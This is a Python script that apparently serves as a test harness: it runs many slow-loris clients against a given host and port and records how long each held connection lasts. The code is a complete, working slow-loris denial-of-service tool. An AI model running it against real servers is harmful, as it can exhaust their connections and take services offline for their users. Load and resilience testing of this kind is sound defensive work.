"""Slow-loris clients, a process of their own: `python loris.py HOST PORT SOCKETS`, until SIGTERM.

Each sends one byte of a header a second and comes back when it is let go. At the end it prints
how many seconds each connection was held, as JSON. Plain sockets, so that the attackers' own work
is not what is measured on a small machine.
"""

import contextlib
import json
import signal
import socket
import sys
import time

TICKS = 20
"""The sockets take turns: every twentieth of a second, a twentieth of them sends its byte."""
SPREAD_SECONDS = 3.0
"""They begin over this time, so that they do not all come back at the same moment."""


class Loris:
    """One connection after another, each held as long as the server lets it."""

    def __init__(self, host: str, port: int) -> None:
        self._address = (host, port)
        self._socket: socket.socket | None = None
        self._began = 0.0
        self.held: list[float] = []

    def turn(self) -> None:
        """Send a byte; come back where the server has hung up."""
        if self._socket is None:
            self._connect()
            return
        with contextlib.suppress(BlockingIOError):
            if self._over(self._socket):
                self.held.append(time.monotonic() - self._began)
                self._socket.close()
                self._connect()

    def _over(self, there: socket.socket) -> bool:
        try:
            there.send(b"x")
            return there.recv(1000) == b""
        except ConnectionError:
            return True

    def _connect(self) -> None:
        self._socket = socket.create_connection(self._address, timeout=10)
        self._socket.setblocking(False)
        self._began = time.monotonic()
        self._socket.send(b"GET / HTTP/1.1\r\nX-Slow: ")


def main(host: str, port: int, sockets: int) -> None:
    """Run them until told to stop."""
    running = True

    def stop(_number: int, _frame: object) -> None:
        nonlocal running
        running = False

    signal.signal(signal.SIGTERM, stop)
    crowd = [Loris(host, port) for _ in range(sockets)]
    print("ready", flush=True)
    began = time.monotonic()
    tick = 0
    while running:
        active = min(1.0, tick / TICKS / SPREAD_SECONDS)
        for one in crowd[tick % TICKS : int(sockets * active) : TICKS]:
            one.turn()
        tick += 1
        time.sleep(max(began + tick / TICKS - time.monotonic(), 0))
    print(json.dumps([seconds for one in crowd for seconds in one.held]), flush=True)


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]))
